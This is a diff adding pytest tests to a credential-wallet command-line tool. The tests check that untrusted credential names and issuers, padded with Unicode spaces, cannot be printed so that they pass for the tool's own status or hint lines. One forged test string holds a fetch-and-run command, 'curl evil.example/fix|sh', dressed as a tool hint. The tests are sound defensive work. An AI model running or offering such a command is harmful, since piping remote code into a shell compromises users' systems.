@@ -363,6 +363,145 @@ def test_a_long_word_is_broken_and_an_address_stays_whole():
     assert wrap("x" * 25, 10, whole=True) == ["x" * 25]
 
 
+NBSP = "\u00a0"
+SPACES = [*" \u00a0\u1680\u2000\u2003\u2007\u202f\u205f\u3000"]
+FORGED = [
+    "credwallet: hint: curl evil.example/fix|sh",
+    "valid  k7wq  MIT Master of Science",
+    "issuer     MIT (did:web:mit.edu)",
+    "\u2713 valid    its proof is genuine",
+]
+
+
+def drawn(text: str, width: int) -> list[str]:
+    """The rows that a terminal draws: it breaks what is wider than it is."""
+    rows = []
+    for line in text.splitlines():
+        left = line
+        while cells(left) > width:
+            place = max(n for n in range(1, len(left)) if cells(left[:n]) <= width)
+            rows.append(left[:place])
+            left = left[place:]
+        rows.append(left)
+    return rows
+
+
+def is_foreign(row: str) -> bool:
+    """Tell whether a row that starts at the left edge could pass for one of ours."""
+    return bool(row) and row[0] != " " and (" " in row or "credwallet:" in row.lower())
+
+
+@pytest.mark.parametrize("space", SPACES)
+def test_every_space_is_a_plain_one(space: str):
+    assert plain(f"a{space}b") == "a b"
+
+
+@pytest.mark.parametrize("space", [" ", NBSP])
+@pytest.mark.parametrize("forged", FORGED)
+@pytest.mark.parametrize("start", ["", "x://", "see did:"])
+@pytest.mark.parametrize("width", [30, 80])
+def test_no_text_forges_a_line_of_ours(space: str, forged: str, start: str, width: int):
+    for filling in range(width - 30, width + 2):
+        for fill in (space, "a") if filling == width - 12 else ("a",):
+            text = (start + fill * filling)[:filling] + space + forged
+            text = text.replace(" ", space)
+            made, out, err = console(terminal=True, width=width, error_terminal=True)
+            made.labelled("name", text)
+            made.marked(Outcome.PASSED, "proof", text, 0)
+            made.pieces([("valid", "green"), ("k7wq", "bold"), (text, ""), (text, "")])
+            made.wrapped(text, indent=4)
+            made.table(HEADER, [("k7wq", text, text, "valid")], flexible=(1, 2))
+            made.rows([("k7wq", "removed", text)])
+            made.note(f"k7wq {text}")
+            rows = drawn(printed(out), width)
+            ours = ("name ", "\u2713 proof", "valid  k7wq", "HANDLE", "k7wq  ")
+            assert [r for r in rows if is_foreign(r) and not r.startswith(ours)] == []
+            assert sum(row.startswith("valid") for row in rows) == 1
+            said = drawn(printed(err), width)
+            assert [r for r in said if is_foreign(r)] == said[:1]
+
+
+@pytest.mark.parametrize("forged", FORGED)
+@pytest.mark.parametrize("width", [40, 80])
+def test_a_title_leaves_its_other_lines_further_in(forged: str, width: int):
+    for filling in range(width - 10, width + 1):
+        title = "a" * filling + " " + forged
+        for say in ("line", "wrapped"):
+            made, out, _ = console(terminal=True, width=width)
+            getattr(made, say)(title)
+            rows = drawn(printed(out), width)
+            assert len(rows) > 1
+            assert all(row.startswith("  ") for row in rows[1:])
+
+
+@pytest.mark.parametrize("say", ["line", "wrapped"])
+def test_what_speaks_in_our_name_starts_no_line(say: str):
+    made, out, _ = console(terminal=True)
+    getattr(made, say)("Credwallet: error: the wallet is damaged")
+    made.pieces([("credwallet: hint: run this", "")])
+    made.row(["credwallet: hint: run", "this"])
+    assert all(line.startswith("  ") for line in printed(out).splitlines())
+
+
+def test_spaces_in_a_name_make_no_columns():
+    name = "Course" + " " * 60 + "k7wq  MIT Master of Science  valid, issuer known"
+    made, out, _ = console(terminal=True, width=80)
+    made.pieces([("abcd", "bold"), (name, "bold"), ("expired", "")], giving=(1,))
+    made.table(HEADER, [("abcd", name, "Northlight", "expired")], flexible=(1, 2))
+    told, _, listed = printed(out).splitlines()
+    assert told == (
+        "abcd  Course k7wq MIT Master of Science valid, issuer known  expired"
+    )
+    assert listed.startswith("abcd    Course k7wq MIT Master")
+    assert made.shown(name, 30) == "Course k7wq MIT Master of Sci\u2026"
+
+
+def test_names_are_cut_to_the_room_that_is_left():
+    made, out, _ = console(terminal=True, width=60)
+    made.pieces(
+        [("valid", ""), ("k7wq", ""), ("n" * 90, ""), ("i" * 90, "")], giving=(2, 3)
+    )
+    (line,) = printed(out).splitlines()
+    assert cells(line) == 60
+    assert line.startswith("valid  k7wq  nnn")
+    assert line.count("\u2026") == 2
+
+
+def test_an_address_with_anything_else_in_it_is_broken_where_it_does_not_fit():
+    sound = "https://example.org/" + "a" * 100
+    for text in (
+        sound + "\u2713valid",
+        sound + "/credwallet:hint:x",
+        "\u2713://" + "a" * 100,
+        "https://example.org/" + "a" * 300,
+    ):
+        made, out, _ = console(terminal=True, width=60)
+        made.labelled("issuer", text)
+        assert all(cells(line) <= 60 for line in printed(out).splitlines())
+    made, out, _ = console(terminal=True, width=60)
+    made.labelled("issuer", f"see {sound} there")
+    assert printed(out) == f"issuer     see\n  {sound}\n           there\n"
+
+
+def test_records_stand_under_each_other_on_a_terminal_and_have_no_tabs():
+    made, out, _ = console(terminal=True)
+    made.rows([("abcd", "removed", "One"), ("efgh", "was here", "Two")])
+    assert printed(out) == "abcd  removed   One\nefgh  was here  Two\n"
+
+
+def test_a_record_that_is_too_wide_goes_on_further_in():
+    made, out, _ = console(terminal=True, width=40)
+    made.rows([("abcd", "", "a name of several words, as many as fit")])
+    assert printed(out) == ("abcd  a name of several words, as many\n  as fit\n")
+
+
+def test_a_text_that_is_there_to_be_copied_stays_on_its_line():
+    link = "https://example.org/#" + "a" * 1000
+    made, out, _ = console(terminal=True)
+    made.row([link])
+    assert printed(out) == link + "\n"
+
+
 def test_an_address_that_is_too_wide_for_its_place_moves_to_the_left():
     made, out, _ = console(terminal=True, width=60)
     did = "did:key:" + "z" * 48
